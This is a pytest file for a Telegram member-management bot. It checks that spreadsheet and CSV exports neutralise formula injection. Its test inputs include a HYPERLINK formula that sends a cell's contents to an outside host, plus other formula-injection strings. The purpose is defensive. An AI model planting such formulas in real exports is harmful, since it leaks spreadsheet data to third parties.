"""Exports never carry a live formula (issue 15, item 6).

A name set in /me to `=HYPERLINK("http://x.cn/?"&C3,"吴老师` became a live formula in the
activity export, and team names too. Every cell written from people's text now goes through
models/exports.py: it is a string cell, and a text that a spreadsheet would read as a formula
starts with an apostrophe. The workbook checked here is the very file the bot sent.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlmodel import select
from telegram.request import RequestData

from bot.callback import pack
from bot.cli import main
from handlers.members.buttons import ProfileChangeDecision, ProfileEdit
from models.activities import Activity
from models.base import utcnow
from models.exports import safe_cell, safe_row
from models.members import Member, ProfileChangeRequest, Role
from models.organizations import bind_committee_chat
from tests.support.factories import make_member
from tests.support.harness import COMMITTEE_GROUP_ID, BotHarness
from tests.support.updates import Person, group_chat

COMMITTEE = Person(1002, "Liu", "zh-hans")
TEACHER = Person(5000, "Wu", "zh-hans")
COLLEAGUE = Person(5001, "Li", "zh-hans")
FORMULA_NAME = '=HYPERLINK("http://x.cn/?"&C3,"吴老师'
FORMULA_TEAM = "=A1*2、李四"


def sent_files(bot: BotHarness) -> list[bytes]:
    """Record the bytes of every document the bot uploads from now on."""
    files: list[bytes] = []
    original = bot.telegram.do_request

    async def recording(
        url: str, method: str, request_data: RequestData | None = None, **kwargs: Any
    ) -> tuple[int, bytes]:
        if url.endswith("/sendDocument") and request_data is not None:
            for _, (_, content, *_) in (request_data.multipart_data or {}).items():
                files.append(content if isinstance(content, bytes) else content.read())
        return await original(url, method, request_data, **kwargs)

    setattr(bot.telegram, "do_request", recording)  # noqa: B010 (an instance attribute)
    return files


async def contest(bot: BotHarness) -> int:
    """The committee creates a contest open to everyone."""
    start = (utcnow() + timedelta(days=3)).astimezone(bot.app.state.settings.zone)
    await bot.say(COMMITTEE, "/newactivity")
    await bot.say(COMMITTEE, "拔河比赛")
    await bot.press(COMMITTEE, pack("ag", "cat", "contest"))
    await bot.say(COMMITTEE, start.strftime("%Y-%m-%d %H:%M"))
    await bot.say(COMMITTEE, "操场")
    await bot.press(COMMITTEE, pack("ag", "cap", "none"))
    await bot.press(COMMITTEE, pack("ag", "dl", "start"))
    await bot.press(COMMITTEE, pack("ag", "who", "everyone"))
    await bot.press(COMMITTEE, pack("ag", "ch", "none"))
    await bot.press(COMMITTEE, pack("ag", "fam", "0"))
    await bot.press(COMMITTEE, pack("ag", "mode", "first_come"))
    await bot.press(COMMITTEE, pack("ag", "desc", "none"))
    await bot.press(COMMITTEE, pack("ag", "ok", "yes"))
    async with bot.db() as session:
        activity = (await session.exec(select(Activity))).one()
    assert activity.id is not None
    return activity.id


async def rename_through_me(bot: BotHarness, person: Person, field: str, value: str) -> None:
    """`person` asks for a new name or department in /me and the committee approves it."""
    await bot.press(person, ProfileEdit(field).pack())  # type: ignore[arg-type]
    await bot.say(person, value)
    async with bot.db() as session:
        request = (await session.exec(select(ProfileChangeRequest))).all()[-1]
    await bot.press(
        COMMITTEE,
        ProfileChangeDecision("approve", request.id or 0).pack(),
        chat=group_chat(COMMITTEE_GROUP_ID),
    )


def texts_of(sheet: Worksheet) -> list[tuple[str, str, Any]]:
    """(coordinate, data type, value) of every cell that holds something."""
    return [
        (cell.coordinate, cell.data_type, cell.value)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value not in (None, "")
    ]


async def test_a_formula_name_and_team_come_out_of_the_export_as_text(bot: BotHarness) -> None:
    async with bot.db() as session:
        await bind_committee_chat(session, org_id=bot.org_id, chat_id=COMMITTEE_GROUP_ID)
    await make_member(
        bot.db, org_id=bot.org_id, person=COMMITTEE, name="刘委员", roles=[Role.COMMITTEE]
    )
    teacher = await make_member(
        bot.db, org_id=bot.org_id, person=TEACHER, name="吴老师", department="语文组"
    )
    await make_member(
        bot.db, org_id=bot.org_id, person=COLLEAGUE, name="李老师", department="数学组"
    )
    await rename_through_me(bot, TEACHER, "name", FORMULA_NAME)
    await rename_through_me(bot, COLLEAGUE, "dept", "+86 数学组")
    async with bot.db() as session:
        renamed = await session.get(Member, teacher.id)
    assert renamed is not None and renamed.real_name == FORMULA_NAME  # the committee approved

    aid = await contest(bot)
    await bot.press(TEACHER, pack("av", "su", aid))
    await bot.press(TEACHER, pack("av", "team", aid))
    await bot.say(TEACHER, FORMULA_TEAM)
    await bot.press(COLLEAGUE, pack("av", "team", aid))
    await bot.say(COLLEAGUE, "@SUM(1+1)*cmd、王五")
    files = sent_files(bot)

    await bot.press(COMMITTEE, pack("ag", "xlsx", aid))

    [content] = files
    book = load_workbook(io.BytesIO(content))
    signups, teams = book.worksheets
    cells = texts_of(signups) + texts_of(teams)
    assert all(data_type != "f" for _, data_type, _ in cells), cells
    values = {value for _, _, value in cells}
    assert f"'{FORMULA_NAME} · 语文组" in values
    assert "'=A1*2、李四" in values
    assert "'+86 数学组" in values
    assert "'@SUM(1+1)*cmd、王五" in values
    # Texts that start no formula are written as they are, numbers stay numbers.
    assert "语文组" in values
    assert ("A2", "n", 1) in cells
    assert all(
        not (isinstance(value, str) and value.startswith(("=", "+", "-", "@"))) for value in values
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "' =1+1"),
        ("\r=1+1", "' =1+1"),
        ("\tplain", "' plain"),
        ("  =1+1", "'  =1+1"),
        ("a\tb\rc", "a b c"),
        ("王芳", "王芳"),
        ("王芳-张三", "王芳-张三"),
        ("bell\x07", "bell"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_safe_cell_neutralises_what_starts_a_formula(value: Any, written: Any) -> None:
    assert safe_cell(value) == written
    assert safe_row([value, 1]) == [written, 1]


@pytest.fixture
def cli_env(clean_database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Environment for `unionbot`: the test database, English, no .env file."""
    monkeypatch.setenv("DATABASE_URL", clean_database)
    monkeypatch.setenv("DEFAULT_LANGUAGE", "en")
    monkeypatch.delenv("ORGANIZATION_NAME", raising=False)
    monkeypatch.chdir(tmp_path)
    return clean_database


def test_the_invitation_links_file_carries_no_formula(
    cli_env: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(
        '姓名,部门\n"=HYPERLINK(""http://x.cn/?""&C3,""吴老师"")",-语文组\n王芳,数学组\n',
        encoding="utf-8-sig",
    )
    out = tmp_path / "links.csv"

    code = main(["members", "import", str(roster), "--bot-username", "x_bot", "--out", str(out)])

    assert code == 0
    with out.open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.reader(source))
    assert [row[:2] for row in rows] == [
        ["Name", "Department"],
        ['\'=HYPERLINK("http://x.cn/?"&C3,"吴老师")', "'-语文组"],
        ["王芳", "数学组"],
    ]
    printed = capsys.readouterr().out
    assert '\'=HYPERLINK("http://x.cn/?"&C3,"吴老师")\t\'-语文组\t' in printed
